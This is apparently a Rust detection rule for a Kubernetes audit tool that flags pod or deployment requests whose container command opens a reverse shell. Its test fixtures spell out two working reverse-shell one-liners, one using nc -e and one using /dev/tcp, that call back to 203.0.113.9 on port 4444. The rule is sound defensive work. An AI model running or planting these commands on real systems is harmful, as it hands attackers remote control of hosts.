//! A pod whose command is a reverse shell.

use crate::audit::prelude::*;

detection! {
    /// Workload starts a reverse shell
    ///
    /// The command of the container calls out and hands over a shell. As a workload it comes back when it
    /// is killed.
    ///
    /// **Benign:** None known.
    ///
    /// **Respond:** Delete the workload at its owner, and look at how its author came by the right.
    "AUD-072" {
        severity: Critical,
        attack: Execution "T1059",
        rows: ["72"],
        needs: [RequestBody],
        on: [(WRITE, WORKLOADS)],
        when: Succeeded,
        fires: [
            r"{verb: create, objectRef: {resource: pods, namespace: shop, name: a}, requestObject: {spec: {containers: [{name: c, command: [nc, -e, /bin/sh, 203.0.113.9, '4444']}]}}}",
            r"{verb: patch, objectRef: {resource: deployments, apiGroup: apps, namespace: shop, name: web},
 requestObject: [{op: add, path: /spec/template/spec/containers/-, value: {name: sc, image: alpine, command: [sh, -c, 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']}}]}",
        ],
        quiet: [r"{verb: create, objectRef: {resource: pods, namespace: shop, name: a}, requestObject: {spec: {containers: [{name: c, command: [sh, -c, 'exec nginx -g daemon-off']}]}}}"],
        run: Pod(run),
    }
}

fn run(pod: &PodView<'_>, call: &Call<'_, '_>, found: &mut Found) {
    for container in &pod.containers {
        let words: Vec<&str> = container.argv().collect();
        let line = words.join(" ");
        if let Some(mark) = Command::new(&line).reverse_shell() {
            found
                .say(format!(
                    "{} whose container {} opens a reverse shell ({mark})",
                    call.did_what(),
                    container.name
                ))
                .body(container.path("command"), line);
        }
    }
}
